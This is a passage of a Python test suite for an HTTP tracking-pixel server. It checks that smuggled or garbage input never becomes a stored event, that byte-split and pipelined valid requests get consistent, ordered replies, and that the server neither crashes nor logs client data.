    assert sum(SMUGGLED in case.sent for case in CASES) >= 40


def test_nothing_smuggled_became_an_event(swept: tuple[str, Swept]) -> None:
    """The nonce is in no event; the good requests beside it all are."""
    _, found = swept
    ident = "after-the-corpus"
    with Wire(found.tracker.address) as wire:
        reply = wire.send(good_request(ident)).reply()
    assert reply is not None and reply.ident == ident
    kept = wait_events(found.tracker.data_dir, {ident})
    assert not [event for event in kept if "smuggled" in str(event)]
    assert sum(event.dimensions.get("campaign") == "good" and not event.id.startswith("in-front") for event in kept) == len(found.outcomes) + 1


def test_no_worker_ends_and_the_log_stays_short(swept: tuple[str, Swept]) -> None:
    """No exit, no traceback, fewer than ten bytes a bad request, and none of them the client's."""
    _, found = swept
    assert found.workers[0] == found.workers[1]
    assert "Traceback" not in found.logged, found.logged[-3000:]
    assert len(found.logged) < found.bad * LOG_BYTES_PER_BAD_REQUEST, f"{len(found.logged)} bytes for {found.bad}:\n{found.logged[:2000]}"
    assert "127." not in found.logged
    assert "smuggled" not in found.logged


# --- good requests in odd pieces

WHOLE = [
    ("a pixel", b"GET /imp/c1/caf%C3%A9.gif?price=2.50&site=https://a.example/ HTTP/1.1\r\nHost: t\r\nUser-Agent: Browser/1\r\nX-A:\tb \r\n\r\n", 200),
    ("a form", b"POST /conv/c1.gif HTTP/1.1\r\nHost: t\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 19\r\n\r\nvalue=9.99&order=o1", 200),
    ("JSON in chunks", CHUNKED + b'5;a=b\r\n{"a":\r\n00003\r\n"b"\r\n1\r\n}\r\n0\r\nX-T: 1\r\n\r\n', 204),
    ("an absolute target", b"HEAD http://t:80/imp/c1/x.gif HTTP/1.1\r\nHost: t\r\n\r\n", 200),
]


def bare(reply: Reply | None) -> Any:
    """A reply without id and time."""
    return reply and (reply.status, sorted(name for name, _ in reply.headers), reply.body)


@pytest.mark.parametrize("door", DOORS)
def test_where_the_bytes_are_split_makes_no_difference(serve: Callable[..., Any], door: str) -> None:
    """Two pieces split at every position, and one byte after the other: the same reply, and one event each."""
    tracker = serve(TRACKER_DOOR=door, TRACKER_JOURNAL_SYNC_INTERVAL_MS="5")
    idents: set[str] = set()
    sent = 0
    for name, raw, status in WHOLE:
        method = raw.split()[0].decode()
        with Wire(tracker.address) as wire:
            first = wire.send(raw).reply(method)
            assert first is not None and first.status == status, name
            idents.add(first.ident)
            for at in range(1, len(raw)):
                wire.send(raw[:at])
                time.sleep(0.001)
                reply = wire.send(raw[at:]).reply(method)
                assert bare(reply) == bare(first), f"{door}: {name}, split at {at}: {raw[:at]!r} {raw[at:]!r}: {reply}"
                assert reply is not None
                idents.add(reply.ident)
            for byte in raw:
                wire.send(bytes([byte]))
                time.sleep(0.0003)
            reply = wire.reply(method)
            assert bare(reply) == bare(first), f"{door}: {name}, byte by byte: {reply}"
            assert reply is not None
            idents.add(reply.ident)
        sent += len(raw) + 1
    assert len(idents) == sent
    assert len(wait_events(tracker.data_dir, idents)) == sent


@pytest.mark.parametrize("door", DOORS)
def test_twenty_requests_in_one_send_are_answered_in_order(serve: Callable[..., Any], door: str) -> None:
    """Pixels, bodies, chunks, a HEAD, a 404 and a 405 among them: each reply to its request, each event once."""
    tracker = serve(TRACKER_DOOR=door)
    raw, methods, statuses, idents = b"", [], [], []
    for at in range(20):
        ident = f"pipe-{at}"
        body = b'{"event_id":"%s"}' % ident.encode()
        kind = ("GET", "POST", "chunked", "HEAD", "404", "405")[at % 6]
        if kind == "POST":
            raw += POST + b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body) + body
        elif kind == "chunked":
            raw += CHUNKED + b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
        elif kind == "404":
            raw += b"GET /nowhere HTTP/1.1\r\nHost: t\r\n\r\n"
        elif kind == "405":
            raw += b"POST /imp/c1/x.gif HTTP/1.1\r\nHost: t\r\nContent-Length: 2\r\n\r\nab"
        else:
            raw += good_request(ident).replace(b"GET", kind.encode())
        methods.append({"chunked": "POST", "404": "GET", "405": "POST"}.get(kind, kind))
        statuses.append({"GET": 200, "POST": 204, "chunked": 204, "HEAD": 200, "404": 404, "405": 405}[kind])
        idents.append("" if kind in ("404", "405") else ident)
    for pieces in (1, 7):
        with Wire(tracker.address) as wire:
            step = -(-len(raw) // pieces)
            for at in range(0, len(raw), step):
                wire.send(raw[at : at + step])
                time.sleep(0.01)
            replies = [wire.reply(method) for method in methods]
            assert not wire.buffer
        assert [reply.status if reply else CLOSED for reply in replies] == statuses
        assert [reply.ident for reply in replies if reply] == idents
    kept = [event.id for event in wait_events(tracker.data_dir, {ident for ident in idents if ident})]
    assert sorted(kept) == sorted(ident for ident in idents * 2 if ident)


@pytest.mark.parametrize("garbage", BEHIND, ids=lambda garbage: garbage.name)
def test_garbage_behind_a_good_request_ends_the_connection_after_its_reply(swept: tuple[str, Swept], garbage: Garbage) -> None:
    """The good one is answered and kept; then a refusal or the end, nothing else."""
    tracker = swept[1].tracker
    ident = "in-front-of-" + garbage.name.replace(" ", "-")
    with Wire(tracker.address, source="127.99.1.1") as wire:
        wire.send(good_request(ident) + garbage.sent).end()
        reply = wire.reply()
        assert reply is not None and (reply.status, reply.ident) == (200, ident)
        second = wire.reply()
        assert second is None or second.status in (400, 408, 501, 505)
        assert wire.closed()
    assert [event.id for event in wait_events(tracker.data_dir, {ident})].count(ident) == 1
    assert "Traceback" not in tracker.output.read_text()
